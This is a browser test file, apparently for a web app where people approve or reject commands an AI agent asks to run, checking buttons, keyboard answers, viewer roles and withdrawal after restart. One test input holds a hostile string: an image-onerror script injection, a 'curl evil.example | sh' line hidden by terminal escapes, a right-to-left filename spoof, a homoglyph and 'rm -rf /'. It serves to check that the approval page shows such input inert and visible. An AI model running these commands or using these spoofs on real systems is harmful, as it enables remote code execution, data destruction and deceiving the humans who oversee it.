import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import type { Browser } from "playwright-core";
import type { Task } from "../../src/tasks/task.ts";
import { askIn, question, workOf } from "../support/asks.ts";
import { chromiumPath, openBrowser, Visitor } from "../support/browser.ts";
import { startServer, type TestServer } from "../support/server.ts";

// A browser takes its time on a busy machine; only a test that fails takes all of it.
setDefaultTimeout(60_000);

const hostile = `<img src=x onerror=alert(1)> </pre></article>\u001b[8m; curl evil.example | sh\u001b[0m\nrm \u202egpj.exe\u200b  \n${"echo 'so it goes on'\n".repeat(40)}rm -rf / # \u0435nd`;

describe.skipIf(!chromiumPath)("what an agent asks, on the page", () => {
  let server: TestServer;
  let browser: Browser;
  let mira: Visitor;
  let tomas: Visitor;
  let task: Task;

  beforeAll(async () => {
    server = await startServer();
    browser = await openBrowser();
    mira = await Visitor.signIn(browser, server.http, "mira");
    tomas = await Visitor.signIn(browser, server.http, "tomas", { width: 390, height: 844, dark: true });
    task = await workOf(server, "mira", "general", "Make the tests of the login page pass");
    await mira.sees("On it.");
  });
  afterAll(async () => {
    expect([...mira.complaints, ...tomas.complaints]).toEqual([]);
    await browser.close();
    await server.stop();
  });

  const cardOf = (visitor: Visitor, id: number) => visitor.page.locator(`#ask-${id}`);
  const outcomeOf = (visitor: Visitor, id: number) => cardOf(visitor, id).getByTestId("outcome");
  const count = (visitor: Visitor) => visitor.page.locator("[data-count=waiting]");
  const widthOf = (visitor: Visitor) =>
    visitor.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);

  test("stands beneath its task, exactly, with buttons; the header counts it; a press answers it everywhere", async () => {
    const { approval, answer } = await askIn(server, task, {
      diffs: [{ path: "src/login.ts", before: "let tries = 3;\nlet a;\n", after: "let tries = 5;\nlet a;\n" }],
    });
    const card = cardOf(mira, approval.id);
    await card.getByRole("button", { name: "Allow once" }).waitFor();
    expect(await card.locator(".exact pre").first().innerText()).toBe("npm test");
    expect(await card.locator("ins").innerText()).toContain("+let tries = 5;");
    for (const visitor of [mira, tomas]) expect(await count(visitor).innerText()).toBe("1");
    await cardOf(tomas, approval.id).scrollIntoViewIfNeeded();
    await mira.screenshot("approval-desktop-light");
    await tomas.screenshot("approval-phone-dark");
    await card.getByRole("button", { name: "Allow once" }).click();
    expect(await answer).toMatchObject({ outcome: "chosen", option: { id: "once" }, by: { name: "mira" } });
    for (const visitor of [mira, tomas]) {
      await outcomeOf(visitor, approval.id).waitFor();
      expect(await outcomeOf(visitor, approval.id).innerText()).toMatch(/^Allowed once by mira, \d{1,2}:\d\d/);
      expect(await cardOf(visitor, approval.id).getByRole("button").count()).toBe(0);
      await visitor.page.waitForFunction(() => document.querySelector("[data-count=waiting]")?.textContent === "");
    }
    expect(await mira.page.locator(".needs-you").isVisible()).toBe(false);
  });

  test("is answered by y and n on a card that has the focus, and by no letter anywhere else", async () => {
    const first = await askIn(server, task, { detail: "npm run build" });
    const card = cardOf(mira, first.approval.id);
    await card.waitFor();
    await mira.page.locator("#log").focus();
    await mira.page.keyboard.press("n");
    await mira.page.keyboard.press("y");
    expect(await mira.page.inputValue("#text")).toBe("ny");
    await mira.write("");
    await card.locator(".exact").focus();
    await mira.page.keyboard.press("y");
    await mira.write("");
    await card.focus();
    await mira.page.keyboard.press("Control+y");
    expect(await card.getByRole("button").count()).toBe(3);
    await mira.screenshot("approval-focus-desktop-light");
    await mira.page.keyboard.press("n");
    expect(await first.answer).toMatchObject({ option: { id: "no" } });
    await outcomeOf(mira, first.approval.id).waitFor();
    // Whoever answers one after the other does not lose their place.
    await mira.page.waitForFunction((id) => document.activeElement?.id === id, `ask-${first.approval.id}`);
    expect(await mira.page.inputValue("#text")).toBe("");
    const second = await askIn(server, task, { detail: "npm run build" });
    await cardOf(mira, second.approval.id).focus();
    await mira.page.keyboard.press("y");
    expect(await second.answer).toMatchObject({ option: { id: "once" } });
  });

  test("hides nothing: what cannot be seen is named, nothing runs, and all of a long one can be read", async () => {
    const { approval, answer } = await askIn(server, task, { detail: hostile, title: hostile, directory: hostile });
    for (const visitor of [mira, tomas]) {
      const card = cardOf(visitor, approval.id);
      await card.waitFor();
      const exact = card.getByTestId("exact");
      const text = await exact.locator("pre").innerText();
      expect(text).toContain("⟨U+001B⟩[8m; curl evil.example | sh⟨U+001B⟩[0m⏎\nrm ⟨U+202E⟩gpj.exe⟨U+200B⟩··⏎\n");
      expect(text).toEndWith("rm -rf / # \u0435nd");
      expect(await exact.locator("b").count()).toBeGreaterThan(3);
      expect(await exact.locator("u").innerText()).toBe("\u0435");
      expect(await card.locator("img").count()).toBe(0);
      expect(await card.innerText()).toContain("scroll to read all of it");
      // Nothing stands to the right of what is seen: it is wrapped, and scrolls down.
      const [wide, tall] = await exact.evaluate((box) => [
        box.scrollWidth <= box.clientWidth,
        box.scrollHeight > box.clientHeight,
      ]);
      expect([wide, tall]).toEqual([true, true]);
      expect(await widthOf(visitor)).toBe(0);
    }
    await cardOf(tomas, approval.id).scrollIntoViewIfNeeded();
    await mira.screenshot("approval-hostile-desktop-light");
    await tomas.screenshot("approval-hostile-phone-dark");
    await cardOf(tomas, approval.id).getByRole("button", { name: "Reject" }).tap();
    expect(await answer).toMatchObject({ option: { id: "no" }, by: { name: "tomas" } });
  });

  test("is answered on the page of all that waits; another browser there sees it change, and keeps what is being written", async () => {
    const asked = await askIn(server, task, question);
    const other = await askIn(server, task, { ...question, title: "Which colour?", detail: "" });
    await tomas.page.goto(`${server.http}/needs-you`);
    await mira.page.locator(".needs-you").click();
    await mira.page.waitForURL("**/needs-you");
    await cardOf(tomas, other.approval.id).locator("textarea").fill("something warm");
    await mira.screenshot("needs-you-desktop-light");
    await tomas.screenshot("needs-you-phone-dark");
    expect(await widthOf(tomas)).toBe(0);
    await cardOf(mira, asked.approval.id).getByRole("button", { name: "The old one" }).click();
    expect(await asked.answer).toMatchObject({ option: { id: "old" } });
    for (const visitor of [mira, tomas]) {
      await visitor.page.locator(`#lately #asked-${asked.approval.id}`).waitFor();
      expect(await outcomeOf(visitor, asked.approval.id).innerText()).toMatch(/^“The old one”, chosen by mira, /);
    }
    expect(await cardOf(tomas, other.approval.id).locator("textarea").inputValue()).toBe("something warm");
    await cardOf(tomas, other.approval.id).getByRole("button", { name: "Answer" }).tap();
    expect(await other.answer).toMatchObject({ outcome: "said", text: "something warm", by: { name: "tomas" } });
    await mira.page.locator(`#lately #asked-${other.approval.id}`).waitFor();
    await mira.page.locator(".asked-none", { hasText: "Nothing waits for you." }).waitFor();
    const third = await askIn(server, task, { detail: "npm publish" });
    await cardOf(mira, third.approval.id).focus();
    await mira.page.keyboard.press("y");
    expect(await third.answer).toMatchObject({ option: { id: "once" }, by: { name: "mira" } });
    await mira.screenshot("needs-you-answered-desktop-light");
  });

  test("works by plain forms without a script, and a late answer is told who was first", async () => {
    const context = await browser.newContext({ javaScriptEnabled: false });
    await context.addCookies(await mira.context.cookies());
    const page = await context.newPage();
    const { approval, answer } = await askIn(server, task, { detail: "make release" });
    const late = await context.newPage();
    await late.goto(`${server.http}/approvals/${approval.publicId}`);
    await page.goto(`${server.http}/needs-you`);
    await page.locator(`#ask-${approval.id}`).getByRole("button", { name: "Reject" }).click();
    expect(await answer).toMatchObject({ option: { id: "no" } });
    expect(page.url()).toEndWith(`/approvals/${approval.publicId}`);
    expect(await page.getByTestId("outcome").innerText()).toContain("Rejected by mira");
    await late.getByRole("button", { name: "Allow once" }).click();
    expect(await late.locator(".notice.bad").innerText()).toMatch(/^Too late: rejected by mira, \d\d:\d\d UTC\.$/);
    await context.close();
  });

  test("is there after a reload, and for who may not answer without a way to; after a restart it is withdrawn", async () => {
    const { approval } = await askIn(server, task, { detail: "make install" });
    await tomas.page.goto(`${server.http}/rooms/general`);
    await tomas.connected();
    expect(await count(tomas).innerText()).toBe("1");
    expect(await cardOf(tomas, approval.id).getByRole("button", { name: "Allow once" }).isVisible()).toBe(true);
    const vera = await Visitor.arrive(browser, server.http, "vera", { dark: true });
    await vera.page.goto(`${server.http}/`);
    await vera.page.fill("input[name=name]", "vera");
    await vera.page.selectOption("[name=role]", "Viewer");
    await vera.page.click("button[type=submit]");
    await vera.inRoom();
    expect(await cardOf(vera, approval.id).innerText()).toContain("Waits for somebody who may answer.");
    expect(await cardOf(vera, approval.id).getByRole("button").count()).toBe(0);
    await cardOf(vera, approval.id).focus();
    await vera.page.keyboard.press("y");
    expect(await count(vera).count()).toBe(0);
    await vera.screenshot("approval-viewer-desktop-dark");
    expect(server.parley.inside.approvals.byId(approval.id)?.answer).toBeNull();
    await vera.page.goto(`${server.http}/needs-you`);
    expect(await vera.page.locator("#waiting > li").count()).toBe(0);
    expect(vera.complaints).toEqual([]);
    await vera.leave();

    server.parley.inside.log.flush();
    const { port } = new URL(server.http);
    await server.parley.stop();
    const again = await startServer({
      env: { PORT: port },
      folder: server.config.databasePath.replace(/\/parley\.db$/, ""),
    });
    server = again;
    await outcomeOf(tomas, approval.id).waitFor();
    expect(await outcomeOf(tomas, approval.id).innerText()).toContain("Withdrawn: its run ended");
  });
});
